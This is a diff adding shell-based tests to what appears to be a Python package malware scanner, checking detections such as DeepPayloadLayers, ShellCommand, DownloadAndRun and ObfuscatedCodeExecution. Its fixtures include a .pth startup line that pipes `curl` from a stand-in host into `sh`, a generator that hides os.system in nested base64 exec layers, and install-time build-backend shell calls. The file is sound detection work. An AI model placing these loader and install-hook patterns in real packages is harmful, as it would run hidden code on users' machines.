@@ -325,12 +325,141 @@ PY
 	assert_output "5 ModuleHijack __aura__.module_replaced import 60"
 }
 
-@test "look-alike: the lazy-module idiom (a computed key) and aliasing a module are no ModuleHijack" {
+@test "look-alike: the lazy-module idiom, a module alias, a ModuleType stand-in, a loader's result are no ModuleHijack" {
 	py m.py <<'PY'
-import sys, pickle
+import sys, types, pickle
+class _Dummy(types.ModuleType):
+    def __getattr__(self, name):
+        raise AttributeError(name)
+class LazyModule:
+    pass
+def load(path):
+    return path
 sys.modules[__name__] = LazyModule(__name__)
 sys.modules['cPickle'] = pickle
+sys.modules['gobject'] = _Dummy('gobject')
+sys.modules['cairo'] = load('cairo.pyi')
 PY
 	run dets m.py ModuleHijack
 	assert_output ""
+}
+
+# layered N: a file that runs `import os; os.system('id')` through N layers of exec(b64decode).
+layered() {
+	python3 - "$1" <<'PY'
+import base64, sys
+src = "import os; os.system('id')"
+for _ in range(int(sys.argv[1])):
+    src = "import base64\nexec(base64.b64decode(%r))" % base64.b64encode(src.encode()).decode()
+print(src)
+PY
+}
+
+@test "payload layers past the budget are a signal of their own: DeepPayloadLayers" {
+	layered 12 >m.py
+	run dets m.py DeepPayloadLayers
+	assert_output "2 DeepPayloadLayers __aura__.payload_too_deep import 100"
+}
+
+@test "look-alike: a few layers are followed to the end and are no DeepPayloadLayers" {
+	layered 3 >m.py
+	run dets m.py DeepPayloadLayers ShellCommand
+	assert_output "2 ShellCommand os.system import 50"
+}
+
+# pth_scan FILE: FILE as a .pth member whose import lines site runs, through rewrite | analyze.
+pth_scan() {
+	file_record "$1" pth | jq -c '.pth_has_code = true' | aura-rewrite | aura-analyze |
+		jq -r 'select(.type == "hit" and .detection != "StartupHook") | "\(.line) \(.detection) \(.name) \(.context) \(.score)"'
+}
+
+@test ".pth import lines are analysed as code that runs at every start-up (install context)" {
+	printf '/opt/extra/lib\nimport os; os.system("curl -s http://x.example/a | sh")\n' > hook.pth
+	run pth_scan hook.pth
+	assert_line "2 ShellCommand os.system install 100"
+	assert_line --partial "2 DownloadAndRun curl -s http://x.example/a | sh install 100"
+}
+
+@test "look-alike: path lines, comments and a plain import in a .pth run nothing to score" {
+	printf '# import os; os.system("x")\n/usr/lib/extra\n./vendor\nimport _virtualenv\n' > paths.pth
+	run pth_scan paths.pth
+	assert_output ""
+}
+
+@test "hex, base16 and URL-safe base64 of a value not known are decoders: run, they are ObfuscatedCodeExecution" {
+	py m.py <<'PY'
+import base64, binascii
+def run(blob, hexed):
+    exec(base64.b16decode(blob))
+    exec(binascii.a2b_hex(hexed))
+    exec(base64.urlsafe_b64decode(blob))
+PY
+	run dets m.py ObfuscatedCodeExecution
+	assert_output "$(printf '3 ObfuscatedCodeExecution builtins.exec function 40\n4 ObfuscatedCodeExecution builtins.exec function 40\n5 ObfuscatedCodeExecution builtins.exec function 40')"
+}
+
+@test "look-alike: hex decoded and printed or compared is run nowhere" {
+	py m.py <<'PY'
+import base64, binascii
+def show(blob):
+    print(base64.b16decode(blob))
+    return binascii.a2b_hex(blob) == b"ok"
+PY
+	run dets m.py ObfuscatedCodeExecution
+	assert_output ""
+}
+
+@test "a dependency straight from a URL in setup.py is DirectURLDependency" {
+	mkdir -p p
+	py p/setup.py <<'PY'
+from setuptools import setup
+setup(name="p", install_requires=["requests>=2", "helper @ https://files.example/helper-1.0.tar.gz"])
+PY
+	run dets p/setup.py DirectURLDependency
+	assert_output "2 DirectURLDependency helper @ https://files.example/helper-1.0.tar.gz install 60"
+}
+
+@test "look-alike: index requirements, an e-mail-like string and a URL alone are no DirectURLDependency" {
+	mkdir -p p
+	py p/setup.py <<'PY'
+from setuptools import setup
+setup(name="p", install_requires=["requests>=2", "six"], url="https://github.com/x/p",
+      description="bugs to me @ https://x.example", author_email="me@example.org")
+PY
+	run dets p/setup.py DirectURLDependency
+	assert_output ""
+}
+
+# tree_hits DIR DETECTION: "path line context score" of that detection's hits for a directory.
+tree_hits() {
+	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
+		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.path) \(.line) \(.context) \(.score)"' | sort -u
+}
+
+@test "a PEP 517 build backend in the tree (backend-path) is install-time code: its top level and hooks" {
+	mkdir -p pkg/_build
+	printf '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n' > pkg/pyproject.toml
+	cat > pkg/_build/backend.py <<'PY'
+import os, subprocess
+os.system("id")
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    subprocess.run(["sh", "-c", "id"])
+    return "x.whl"
+PY
+	run tree_hits pkg ShellCommand
+	assert_line "_build/backend.py 2 install 100"
+	run tree_hits pkg ProcessExecution
+	assert_line "_build/backend.py 4 install 80"
+}
+
+@test "look-alike: an installed backend (no backend-path) leaves a same-named module of the tree alone" {
+	mkdir -p pkg/_build
+	printf '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n' > pkg/pyproject.toml
+	cat > pkg/_build/build_meta.py <<'PY'
+import os
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    os.system("id")
+PY
+	run tree_hits pkg ShellCommand
+	assert_output "_build/build_meta.py 3 function 2"
 }
